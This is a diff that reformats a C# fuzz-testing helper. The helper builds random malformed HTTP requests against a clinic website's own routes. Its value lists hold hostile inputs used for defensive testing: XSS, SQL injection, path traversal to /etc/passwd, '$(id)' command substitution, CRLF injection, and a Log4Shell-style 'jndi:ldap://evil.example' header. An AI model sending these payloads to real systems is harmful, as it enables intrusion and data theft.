@@ -13,46 +13,100 @@ public sealed class HostileRequests(int seed)
     /// <summary>Appears in no page unless a page repeats what was typed without escaping it.</summary>
     public const string Script = "<svg onload=hostile";
 
-    private static readonly string[] Methods = ["GET", "GET", "GET", "POST", "POST", "POST", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "BREW", "get", "CONNECT"];
+    private static readonly string[] Methods =
+    [
+        "GET", "GET", "GET", "POST", "POST", "POST", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "BREW", "get", "CONNECT",
+    ];
 
     private static readonly string[] Paths =
     [
-        "/", "/about", "/services", "/services/iv-ketamine", "/faqs", "/research", "/reviews", "/blog", "/blog/the-first", "/blog/topics/safety", "/search", "/privacy",
-        "/contact", "/contact/sent", "/consultation", "/consultation/booked", "/consultation/manage/none", "/newsletter", "/newsletter/code", "/newsletter/confirm/none",
-        "/newsletter/unsubscribe/none", "/newsletter/thanks", "/staff", "/staff/sign-in", "/staff/people", "/staff/enroll/none", "/staff/leads/none", "/views/the-first", "/error/404", "/error/500",
-        "/images/dot.svg", "/site.css", "/sitemap.xml", "/feed.xml", "/rss.xml",
-        "/feed.json", "/robots.txt", "/.well-known/security.txt", "/site.webmanifest", "/js/site.js", "/health/live", "/health/ready", "/preview/00", "/old-page", "/no/such/page",
+        "/", "/about", "/services", "/services/iv-ketamine", "/faqs", "/research", "/reviews", "/blog", "/blog/the-first",
+        "/blog/topics/safety", "/search", "/privacy", "/contact", "/contact/sent", "/consultation", "/consultation/booked",
+        "/consultation/manage/none", "/newsletter", "/newsletter/code", "/newsletter/confirm/none", "/newsletter/unsubscribe/none",
+        "/newsletter/thanks", "/staff", "/staff/sign-in", "/staff/people", "/staff/enroll/none", "/staff/leads/none", "/views/the-first",
+        "/error/404", "/error/500", "/images/dot.svg", "/site.css", "/sitemap.xml", "/feed.xml", "/rss.xml", "/feed.json", "/robots.txt",
+        "/.well-known/security.txt", "/site.webmanifest", "/js/site.js", "/health/live", "/health/ready", "/preview/00", "/old-page",
+        "/no/such/page",
     ];
 
     private static readonly string[] Fields =
-        ["name", "email", "phone", "message", "consent", "slot", "contactBy", "times", "article", "page", "q", "ref", "id", "code", "token", "handler", "v", "p", "topic_line", "Form.Name", "name[0]", "name[", "[[a]", "__proto__"];
+    [
+        "name", "email", "phone", "message", "consent", "slot", "contactBy", "times", "article", "page", "q", "ref", "id", "code", "token",
+        "handler", "v", "p", "topic_line", "Form.Name", "name[0]", "name[", "[[a]", "__proto__",
+    ];
 
     private static readonly string[] Values =
     [
-        "", "a", "yes", "other", "1", "-1", "0", "99999999999999999999", "2", "1e9", "%00", "%EF%BF%BE", "%ED%A0%80", "%F0%9F%92%8A", "%E2%80%AE", "%0D%0AX-Injected:%201", "%22%27%3E" + "%3Csvg%20onload=hostile%3E",
-        "%3Csvg%20onload=hostile%3E", "'%20OR%20'1'='1", "1;DROP%20TABLE%20Leads", "../../etc/passwd", "..%2f..%2fclinic.yml", "%252e%252e", "robin%40example.com", "%2B13035550142", "2027-01-18T16:00:00Z", "%FF%FE",
-        "javascript:alert(1)", "https://evil.example", "%7B%7B7*7%7D%7D", "$(id)", "%", "%zz", "a%20b%09c", "%CC%81%CC%81%CC%81%CC%81", "00000000000000000000000000000000",
+        "",
+        "a",
+        "yes",
+        "other",
+        "1",
+        "-1",
+        "0",
+        "99999999999999999999",
+        "2",
+        "1e9",
+        "%00",
+        "%EF%BF%BE",
+        "%ED%A0%80",
+        "%F0%9F%92%8A",
+        "%E2%80%AE",
+        "%0D%0AX-Injected:%201",
+        "%22%27%3E" + "%3Csvg%20onload=hostile%3E",
+        "%3Csvg%20onload=hostile%3E",
+        "'%20OR%20'1'='1",
+        "1;DROP%20TABLE%20Leads",
+        "../../etc/passwd",
+        "..%2f..%2fclinic.yml",
+        "%252e%252e",
+        "robin%40example.com",
+        "%2B13035550142",
+        "2027-01-18T16:00:00Z",
+        "%FF%FE",
+        "javascript:alert(1)",
+        "https://evil.example",
+        "%7B%7B7*7%7D%7D",
+        "$(id)",
+        "%",
+        "%zz",
+        "a%20b%09c",
+        "%CC%81%CC%81%CC%81%CC%81",
+        "00000000000000000000000000000000",
     ];
 
     private static readonly string[] Segments =
-        ["", ".", "..", "%2e%2e", "%2f", "%5c", "\\", "%00", "%0a", "~", "A", "%C3%A4", "%ff", "%EF%BF%BE", "<svg onload=hostile>", "%3Csvg%20onload=hostile%3E", ";x=1", ":", "//", "con", ".git", "wp-login.php"];
+    [
+        "", ".", "..", "%2e%2e", "%2f", "%5c", "\\", "%00", "%0a", "~", "A", "%C3%A4", "%ff", "%EF%BF%BE", "<svg onload=hostile>",
+        "%3Csvg%20onload=hostile%3E", ";x=1", ":", "//", "con", ".git", "wp-login.php",
+    ];
 
     private static readonly string[] Types =
     [
-        "application/x-www-form-urlencoded", "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-7", "application/x-www-form-urlencoded; charset=utf-16", "multipart/form-data",
-        "multipart/form-data; boundary=x", "multipart/form-data; boundary=\"\"", "application/json", "text/plain", "application/xml", "", "a/b; q=\u0001", "form", "multipart/mixed; boundary=x",
+        "application/x-www-form-urlencoded", "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-7",
+        "application/x-www-form-urlencoded; charset=utf-16", "multipart/form-data", "multipart/form-data; boundary=x",
+        "multipart/form-data; boundary=\"\"", "application/json", "text/plain", "application/xml", "", "a/b; q=\u0001", "form",
+        "multipart/mixed; boundary=x",
     ];
 
     private static readonly string[] Headers =
     [
-        "Cookie: a=b; .AspNetCore.Antiforgery=x", "Accept-Encoding: br;q=x, *;q=0", "Accept-Encoding: gzip", "Accept-Encoding: br", "Accept-Encoding: ,,,;;;", "Accept-Language: <svg onload=hostile>", "If-None-Match: *",
-        "If-None-Match: \"", "If-Match: *", "If-Match: \"x\"", "If-Modified-Since: yesterday", "Range: bytes=0-0,-1,5-2", "Range: bytes=99999999999999999999-", "If-Range: \"x\"", "X-Forwarded-For: <svg onload=hostile>",
-        "X-Forwarded-Host: evil.example", "X-Forwarded-Proto: javascript", "X-Original-URL: /staff", "X-HTTP-Method-Override: DELETE", "Origin: null", "Origin: https://evil.example", "Origin: a..b", "Referer: https://evil.example/<svg onload=hostile>",
-        "Sec-Fetch-Site: cross-site", "Sec-Fetch-Site: same-origin", "Sec-Fetch-Site: same-origin, none", "Expect: 100-continue", "Expect: tea", "Upgrade: websocket", "Transfer-Encoding: gzip", "Content-Encoding: br",
-        "User-Agent: ${jndi:ldap://evil.example/a}", "Authorization: Bearer <svg onload=hostile>", "Authorization: Basic AAAA", "TE: trailers", "Sec-Purpose: prefetch", "Accept: */*;q=x", "Content-Length: 7", "Max-Forwards: 0", "Via: 1.1 x",
+        "Cookie: a=b; .AspNetCore.Antiforgery=x", "Accept-Encoding: br;q=x, *;q=0", "Accept-Encoding: gzip", "Accept-Encoding: br",
+        "Accept-Encoding: ,,,;;;", "Accept-Language: <svg onload=hostile>", "If-None-Match: *", "If-None-Match: \"", "If-Match: *",
+        "If-Match: \"x\"", "If-Modified-Since: yesterday", "Range: bytes=0-0,-1,5-2", "Range: bytes=99999999999999999999-",
+        "If-Range: \"x\"", "X-Forwarded-For: <svg onload=hostile>", "X-Forwarded-Host: evil.example", "X-Forwarded-Proto: javascript",
+        "X-Original-URL: /staff", "X-HTTP-Method-Override: DELETE", "Origin: null", "Origin: https://evil.example", "Origin: a..b",
+        "Referer: https://evil.example/<svg onload=hostile>", "Sec-Fetch-Site: cross-site", "Sec-Fetch-Site: same-origin",
+        "Sec-Fetch-Site: same-origin, none", "Expect: 100-continue", "Expect: tea", "Upgrade: websocket", "Transfer-Encoding: gzip",
+        "Content-Encoding: br", "User-Agent: ${jndi:ldap://evil.example/a}", "Authorization: Bearer <svg onload=hostile>",
+        "Authorization: Basic AAAA", "TE: trailers", "Sec-Purpose: prefetch", "Accept: */*;q=x", "Content-Length: 7", "Max-Forwards: 0",
+        "Via: 1.1 x",
     ];
 
-    private static readonly string[] Hosts = ["localhost", "localhost", "localhost", "", "a..b", "a:99999", "xn--", "evil.example", "[::1]", "[::1", "a b", "LOCALHOST:80"];
+    private static readonly string[] Hosts =
+    [
+        "localhost", "localhost", "localhost", "", "a..b", "a:99999", "xn--", "evil.example", "[::1]", "[::1", "a b", "LOCALHOST:80",
+    ];
 
     private readonly Random _random = new(seed);
 
@@ -61,14 +115,28 @@ public sealed class HostileRequests(int seed)
     {
         var method = One(Methods);
         var target = Target();
-        if (method == "POST" && _random.Next(2) == 0) target = One(["/contact", "/consultation", "/newsletter", "/newsletter/code", "/consultation/manage/none", "/staff/leads/none", "/staff/sign-in", "/staff/people"]);
+        if (method == "POST" && _random.Next(2) == 0)
+            target = One([
+                "/contact", "/consultation", "/newsletter", "/newsletter/code", "/consultation/manage/none", "/staff/leads/none",
+                "/staff/sign-in", "/staff/people",
+            ]);
         var type = method is "POST" && _random.Next(2) == 0 ? Types[0] : method is "GET" or "HEAD" && _random.Next(4) > 0 ? "" : One(Types);
         var body = method is "GET" or "HEAD" && _random.Next(6) > 0 ? "" : Body(type);
-        var text = new StringBuilder().Append(method).Append(' ').Append(target).Append(" HTTP/1.1\r\nHost: ").Append(One(Hosts)).Append("\r\nConnection: close\r\n");
+        var text = new StringBuilder()
+            .Append(method)
+            .Append(' ')
+            .Append(target)
+            .Append(" HTTP/1.1\r\nHost: ")
+            .Append(One(Hosts))
+            .Append("\r\nConnection: close\r\n");
         for (var i = _random.Next(4); i > 0; i--) text.Append(One(Headers)).Append("\r\n");
         if (type.Length > 0) text.Append("Content-Type: ").Append(type).Append("\r\n");
         if (_random.Next(12) == 0 && body.Length > 0)
-            text.Append("Transfer-Encoding: chunked\r\n\r\n").Append(body.Length.ToString("x", CultureInfo.InvariantCulture)).Append("\r\n").Append(body).Append(_random.Next(8) > 0 ? "\r\n0\r\n\r\n" : "");
+            text.Append("Transfer-Encoding: chunked\r\n\r\n")
+                .Append(body.Length.ToString("x", CultureInfo.InvariantCulture))
+                .Append("\r\n")
+                .Append(body)
+                .Append(_random.Next(8) > 0 ? "\r\n0\r\n\r\n" : "");
         else
             text.Append("Content-Length: ").Append(body.Length + (_random.Next(300) == 0 ? 5 : 0)).Append("\r\n\r\n").Append(body);
         return Encoding.Latin1.GetBytes(text.ToString());
@@ -96,7 +164,8 @@ public sealed class HostileRequests(int seed)
         }
 
         var text = Encoding.UTF8.GetString(answer.GetBuffer(), 0, (int)answer.Length);
-        var status = text.StartsWith("HTTP/1.1 ", StringComparison.Ordinal) && text.Length > 12 ? int.Parse(text.AsSpan(9, 3), CultureInfo.InvariantCulture) : 0;
+        var status =
+            text.StartsWith("HTTP/1.1 ", StringComparison.Ordinal) && text.Length > 12 ? int.Parse(text.AsSpan(9, 3), CultureInfo.InvariantCulture) : 0;
         return (status, text);
     }
 
@@ -130,13 +199,19 @@ public sealed class HostileRequests(int seed)
         _ => _random.Next(40) == 0 ? "message=" + new string('x', 70_000) : Pairs(),
     };
 
-    private string Pairs() => string.Join('&', Enumerable.Range(0, _random.Next(1, 7)).Select(_ => _random.Next(20) == 0 ? One(Values) : $"{One(Fields)}={One(Values)}"));
+    private string Pairs() =>
+        string.Join('&', Enumerable.Range(0, _random.Next(1, 7)).Select(_ => _random.Next(20) == 0 ? One(Values) : $"{One(Fields)}={One(Values)}"));
 
     private string Multipart()
     {
         var text = new StringBuilder();
         for (var i = _random.Next(1, 4); i > 0; i--)
-            text.Append("--x\r\nContent-Disposition: form-data; name=\"").Append(One(Fields)).Append(_random.Next(5) == 0 ? "\"; filename=\"a.exe" : "").Append("\"\r\n\r\n").Append(Uri.UnescapeDataString(One(Values))).Append("\r\n");
+            text.Append("--x\r\nContent-Disposition: form-data; name=\"")
+                .Append(One(Fields))
+                .Append(_random.Next(5) == 0 ? "\"; filename=\"a.exe" : "")
+                .Append("\"\r\n\r\n")
+                .Append(Uri.UnescapeDataString(One(Values)))
+                .Append("\r\n");
         return text.Append(_random.Next(3) == 0 ? "" : "--x--\r\n").ToString();
     }
 
